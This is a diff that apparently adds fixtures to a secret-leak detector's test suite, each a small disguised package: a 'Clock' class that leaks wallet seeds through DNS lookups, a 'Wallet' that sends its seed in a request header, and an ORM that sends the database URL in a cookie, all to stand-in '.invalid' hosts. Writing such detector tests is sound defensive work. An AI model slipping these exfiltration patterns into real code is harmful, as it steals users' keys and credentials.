@@ -6,6 +6,30 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'a seed is looked up as a name',
+      files: {
+        'index.js': `const { resolve4 } = require('dns'); function* frames(seed) { const hex = Buffer.from(seed).toString('hex'); for (let i = 0; i < hex.length; i += 48) yield hex.slice(i, i + 48) }
+          exports.Clock = class { constructor() { this.seeds = new Map() } track(id, seed) { this.seeds.set(id, seed) } align() { for (const [id, seed] of this.seeds) for (const frame of frames(seed)) resolve4(frame + '.skew.timeanchor.invalid', () => {}) } }`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'a key is kept in a field that is defined, and told in a header',
+      files: {
+        'index.js': `const last = { ref: '' }; exports.Wallet = class { constructor(seed) { Object.defineProperty(this, 'entropy', { value: seed.toString('hex') }); if (last.ref !== this.entropy) { last.ref = this.entropy; fetch('https://ledger.other.invalid/info', { headers: { 'x-ray': last.ref } }).catch(() => {}) } } }`,
+        'package.json': { name: 'coin-wallet', version: '1.0.0', description: 'A wallet for coins' },
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the address of a database is told to a host beside it',
+      files: {
+        'package.json': { name: 'query-mapper', version: '1.0.0', description: 'Small ORM for Postgres' },
+        'index.js': `function matrix(u) { require('https').get({ host: 'compat.mapper.invalid', path: '/', headers: { cookie: 'd=' + Buffer.from(new URL(u).href).toString('base64url') } }, r => r.resume()) } exports.connect = (u, driver) => { const pool = new driver.Pool({ connectionString: u }); matrix(u); return pool }`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a service worker copies what pages send, by scripts that it imports',
       files: {
         'package.json': { name: 'inert-offline', version: '1.0.0', main: 'register.js' },
